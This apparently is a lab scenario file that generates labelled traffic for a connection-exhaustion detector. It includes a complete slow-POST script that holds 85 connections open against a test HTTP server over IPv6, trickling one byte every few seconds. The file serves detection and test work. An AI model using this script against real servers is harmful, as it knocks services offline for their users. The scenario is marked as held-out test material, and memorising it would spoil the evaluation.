"""Forms that never end, sent an octet at a time to an application server over IPv6."""

from lab.namespaces import listens, wait_for
from lab.range import Range
from lab.scenario import Scenario

# A server with a thread for each request, as many frameworks bring one; it waits for the whole form.
SERVER = """
import http.server, socket
class Application(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers['Content-Length']))
        self.do_GET()
    def do_GET(self):
        self.send_response(200)
        self.send_header('Content-Length', '3')
        self.end_headers()
        self.wfile.write(b'ok\\n')
class Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    request_queue_size = 64
Server(('', 8080), Application).serve_forever()
"""
SLOW = """
import random, socket, sys, time
held, end = [], time.monotonic() + float(sys.argv[2])
began = time.monotonic()
while time.monotonic() < end:
    if len(held) < 85:
        one = socket.create_connection((sys.argv[1], 8080))
        one.sendall(b'POST /search HTTP/1.1\\r\\nHost: shop.range.example\\r\\n'
                    b'Content-Type: application/x-www-form-urlencoded\\r\\n'
                    b'Content-Length: 48213\\r\\n\\r\\nq=')
        held.append([one, time.monotonic() + random.uniform(4, 9)])
    for entry in held:
        if time.monotonic() > entry[1]:
            entry[0].sendall(random.choice(b'abcdefgh').to_bytes(1, 'big'))
            entry[1] += random.uniform(4, 9)
    time.sleep(0.12)
"""


def run(net: Range) -> None:
    attacker, shop = net.outside("attacker"), net.inside("shop", 40)
    shop.start("/usr/bin/python3", "-c", SERVER)
    wait_for("the shop", listens(shop, 8080))
    net.everyday()
    net.loop(net.outside("visitor"), f"curl -s -m 3 -d q=lamp -o /dev/null -g http://[{shop.ip6}]:8080/", 1.1)
    net.quiet(4)
    with net.attack(
        "connection-exhaustion",
        by=attacker,
        attackers=[attacker.ip6],
        victims=[shop.ip6],
        frames=f"ip6 and tcp and dst host {shop.ip6} and dst port 8080",
        responses=f"ip6 and tcp and src host {shop.ip6} and dst host {attacker.ip6}",
    ):
        net.tool(attacker, "/usr/bin/python3", "-c", SLOW, shop.ip6, "38", seconds=42)
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-held-trickle",
    about="A program holds 85 forms open at an application server over IPv6, an octet in 6 seconds each.",
    detectors=("connection-exhaustion",),
    held_out=True,
    snap_octets=100,
    run=run,
)
